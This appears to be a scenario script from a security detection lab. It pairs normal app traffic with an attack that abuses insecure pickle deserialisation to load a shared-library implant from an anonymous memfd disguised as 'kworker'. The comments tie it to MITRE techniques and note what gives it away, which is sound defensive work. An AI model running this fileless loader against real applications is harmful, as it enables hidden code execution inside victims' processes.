# An in-memory implant through the app's insecure deserialisation (see app-deserialize-exfil): the code run inside the
# app writes a shared library it was sent into a memfd (memfd_create: a file on no disk) and loads it with ctypes from
# /proc/self/fd, the way in-memory loaders put native code into an interpreter without leaving a file. The library
# (tools/implant.c, built on the host) starts a thread that waits for orders: no program started, no file written,
# nothing sent. What gives it away is the code mapped into the app's process from memory (T1620, T1055, T1027).
IMAGE=app
normal() { app_traffic "$WEB_PORT" 60; }
attack() {
  local b64
  b64=$(base64 -w0 "$(lab_implant)")
  app_unpickle "$WEB_PORT" "import base64, ctypes, os
fd = os.memfd_create('kworker', 0)
os.write(fd, base64.b64decode('$b64'))
ctypes.CDLL('/proc/self/fd/%d' % fd)"
}
